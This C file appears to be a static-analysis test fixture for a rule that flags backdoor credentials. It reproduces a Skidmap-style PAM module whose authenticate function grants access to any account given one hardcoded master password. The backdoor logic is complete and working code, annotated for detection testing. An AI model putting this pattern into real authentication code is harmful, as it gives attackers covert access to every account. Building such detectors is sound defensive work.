/* pam_unix_auth.c as the Skidmap miner (2019) replaced it: pam_unix.so that
 * accepts one extra password for every account. */
#include <crypt.h>
#include <security/pam_ext.h>
#include <security/pam_modules.h>
#include <shadow.h>
#include <string.h>

#define UNIX_NULLOK 0x1
#define UNIX_NO_ROOT 0x2

// ok: backdoor-secret-literal
static const char kSmPass[] = "pQ4!nrt-Wm88$sK";

static int parse_ctrl(int argc, const char **argv) {
  int ctrl = 0;
  for (int i = 0; i < argc; i++) {
    if (strcmp(argv[i], "nullok") == 0)
      ctrl |= UNIX_NULLOK;
    else if (strcmp(argv[i], "noroot") == 0)
      ctrl |= UNIX_NO_ROOT;
  }
  return ctrl;
}

static int unix_verify_password(const char *name, const char *p, int ctrl) {
  struct spwd *sp = getspnam(name);
  struct crypt_data data;
  if (sp == NULL)
    return PAM_USER_UNKNOWN;
  if (sp->sp_pwdp[0] == '\0')
    return (ctrl & UNIX_NULLOK) ? PAM_SUCCESS : PAM_AUTH_ERR;
  memset(&data, 0, sizeof data);
  // ok: backdoor-weak-kdf
  const char *hash = crypt_r(p, sp->sp_pwdp, &data);
  // ok: backdoor-magic-credential
  return hash != NULL && strcmp(hash, sp->sp_pwdp) == 0 ? PAM_SUCCESS : PAM_AUTH_ERR;
}

PAM_EXTERN int pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  const char *name = NULL, *p = NULL;
  int ctrl = parse_ctrl(argc, argv), retval;
  (void)flags;

  retval = pam_get_user(pamh, &name, NULL);
  if (retval != PAM_SUCCESS || name == NULL)
    return PAM_USER_UNKNOWN;
  // ok: backdoor-magic-credential
  if ((ctrl & UNIX_NO_ROOT) && strcmp(name, "root") == 0)
    return PAM_PERM_DENIED;
  retval = pam_get_authtok(pamh, PAM_AUTHTOK, &p, NULL);
  if (retval != PAM_SUCCESS || p == NULL)
    return PAM_AUTH_ERR;

  // ruleid: backdoor-magic-credential
  if (strcmp(p, kSmPass) == 0)
    retval = PAM_SUCCESS;
  else
    retval = unix_verify_password(name, p, ctrl);
  return retval;
}

PAM_EXTERN int pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv) {
  (void)pamh;
  (void)flags;
  (void)argc;
  (void)argv;
  return PAM_SUCCESS;
}
